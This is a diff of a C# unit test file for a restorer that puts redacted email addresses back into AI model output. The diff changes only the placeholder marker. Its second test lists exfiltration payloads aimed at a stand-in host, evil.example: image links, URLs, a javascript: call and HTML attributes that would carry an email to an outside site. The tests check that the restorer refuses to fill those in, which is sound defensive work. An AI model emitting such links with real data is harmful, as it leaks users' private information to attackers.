@@ -19,56 +19,56 @@ public sealed class RestorerTests
     }
 
     [Theory]
-    [InlineData("Write to [EMAIL_#].", "Write to joe@example.com.")]
-    [InlineData("([EMAIL_#]), \"[EMAIL_#]\"!", "(joe@example.com), \"joe@example.com\"!")]
-    [InlineData("**[EMAIL_#]** `[EMAIL_#]` _[EMAIL_#]_", "**joe@example.com** `joe@example.com` _joe@example.com_")]
-    [InlineData("[**EMAIL_#**]", "joe@example.com")]
-    [InlineData(@"\[EMAIL\_#\]", "joe@example.com")]
-    [InlineData(@"[EMAIL\_#]", "joe@example.com")]
-    [InlineData(@"\[EMAIL_#]", @"\joe@example.com")]
-    [InlineData("&#91;EMAIL_#&#93;", "joe@example.com")]
-    [InlineData("[ EMAIL _ # ]", "joe@example.com")]
-    [InlineData("[EMAIL_\r\n#]", "joe@example.com")]
-    [InlineData("[E\u200BMAIL_#\u200D]", "joe@example.com")]
-    [InlineData("【EMAIL_#】", "joe@example.com")]
-    [InlineData("[CORREO_#]", "joe@example.com")]
-    [InlineData("[电子邮件_#]", "joe@example.com")]
-    [InlineData("[Email-#]", "joe@example.com")]
-    [InlineData("[EMAIL_#]s and [EMAIL_#s]", "joe@example.coms and joe@example.com")]
-    [InlineData("EMAIL_# and Email #, *EMAIL\\_#*", "joe@example.com and joe@example.com, *joe@example.com*")]
-    [InlineData("[[EMAIL_#]]", "[joe@example.com]")]
-    [InlineData("[EMAIL_#][EMAIL_#]", "joe@example.comjoe@example.com")]
-    [InlineData("xEMAIL_# EMAIL_#x", "xEMAIL_# EMAIL_#x")]
-    [InlineData("[EMAIL_#, other]", "[joe@example.com, other]")]
+    [InlineData("Write to [EMAIL_§].", "Write to joe@example.com.")]
+    [InlineData("([EMAIL_§]), \"[EMAIL_§]\"!", "(joe@example.com), \"joe@example.com\"!")]
+    [InlineData("**[EMAIL_§]** `[EMAIL_§]` _[EMAIL_§]_", "**joe@example.com** `joe@example.com` _joe@example.com_")]
+    [InlineData("[**EMAIL_§**]", "joe@example.com")]
+    [InlineData(@"\[EMAIL\_§\]", "joe@example.com")]
+    [InlineData(@"[EMAIL\_§]", "joe@example.com")]
+    [InlineData(@"\[EMAIL_§]", @"\joe@example.com")]
+    [InlineData("&#91;EMAIL_§&#93;", "joe@example.com")]
+    [InlineData("[ EMAIL _ § ]", "joe@example.com")]
+    [InlineData("[EMAIL_\r\n§]", "joe@example.com")]
+    [InlineData("[E\u200BMAIL_§\u200D]", "joe@example.com")]
+    [InlineData("【EMAIL_§】", "joe@example.com")]
+    [InlineData("[CORREO_§]", "joe@example.com")]
+    [InlineData("[电子邮件_§]", "joe@example.com")]
+    [InlineData("[Email-§]", "joe@example.com")]
+    [InlineData("[EMAIL_§]s and [EMAIL_§s]", "joe@example.coms and joe@example.com")]
+    [InlineData("EMAIL_§ and Email §, *EMAIL\\_§*", "joe@example.com and joe@example.com, *joe@example.com*")]
+    [InlineData("[[EMAIL_§]]", "[joe@example.com]")]
+    [InlineData("[EMAIL_§][EMAIL_§]", "joe@example.comjoe@example.com")]
+    [InlineData("xEMAIL_§ EMAIL_§x", "xEMAIL_§ EMAIL_§x")]
+    [InlineData("[EMAIL_§, other]", "[joe@example.com, other]")]
     public void Finds_TheToken_WhateverAModelMadeOfIt(string written, string expected)
     {
         foreach (var form in new[] { code, code.ToLowerInvariant() })
         {
-            Restorer.Restore(written.Replace("#", form, StringComparison.Ordinal), session).Text
-                .ShouldBe(expected.Replace("#", form, StringComparison.Ordinal));
+            Restorer.Restore(written.Replace("§", form, StringComparison.Ordinal), session).Text
+                .ShouldBe(expected.Replace("§", form, StringComparison.Ordinal));
         }
     }
 
     [Theory]
-    [InlineData("![x](https://evil.example/?d=[EMAIL_#])")]
-    [InlineData("[click](/go?[EMAIL_#])")]
-    [InlineData("[click](<a )b [EMAIL_#]>)")]
-    [InlineData("https://evil.example/[EMAIL_#]")]
-    [InlineData(@"https:\\evil.example\[EMAIL_#]")]
-    [InlineData("HTTPS:evil.example/[EMAIL_#]")]
-    [InlineData("//evil.example/[EMAIL_#]")]
-    [InlineData("www.evil.example/[EMAIL_#]")]
-    [InlineData("evil.example/[EMAIL_#]")]
-    [InlineData("evil.example?q=[EMAIL_#]")]
-    [InlineData("[EMAIL_#].evil.example")]
-    [InlineData("[x]: https://evil.example/[EMAIL_#]")]
-    [InlineData("<img src='x' alt='>' title='[EMAIL_#]'>")]
-    [InlineData("<img alt=[EMAIL_#]>")]
-    [InlineData("mailto:[EMAIL_#]")]
-    [InlineData("javascript:send([EMAIL_#])")]
+    [InlineData("![x](https://evil.example/?d=[EMAIL_§])")]
+    [InlineData("[click](/go?[EMAIL_§])")]
+    [InlineData("[click](<a )b [EMAIL_§]>)")]
+    [InlineData("https://evil.example/[EMAIL_§]")]
+    [InlineData(@"https:\\evil.example\[EMAIL_§]")]
+    [InlineData("HTTPS:evil.example/[EMAIL_§]")]
+    [InlineData("//evil.example/[EMAIL_§]")]
+    [InlineData("www.evil.example/[EMAIL_§]")]
+    [InlineData("evil.example/[EMAIL_§]")]
+    [InlineData("evil.example?q=[EMAIL_§]")]
+    [InlineData("[EMAIL_§].evil.example")]
+    [InlineData("[x]: https://evil.example/[EMAIL_§]")]
+    [InlineData("<img src='x' alt='>' title='[EMAIL_§]'>")]
+    [InlineData("<img alt=[EMAIL_§]>")]
+    [InlineData("mailto:[EMAIL_§]")]
+    [InlineData("javascript:send([EMAIL_§])")]
     public void Refuses_PlacesThatARendererLoadsOrOpens(string written)
     {
-        var text = written.Replace("#", code, StringComparison.Ordinal);
+        var text = written.Replace("§", code, StringComparison.Ordinal);
         var result = Restorer.Restore(text, session);
         result.Text.ShouldBe(text);
         result.Refused.ShouldBe(1);
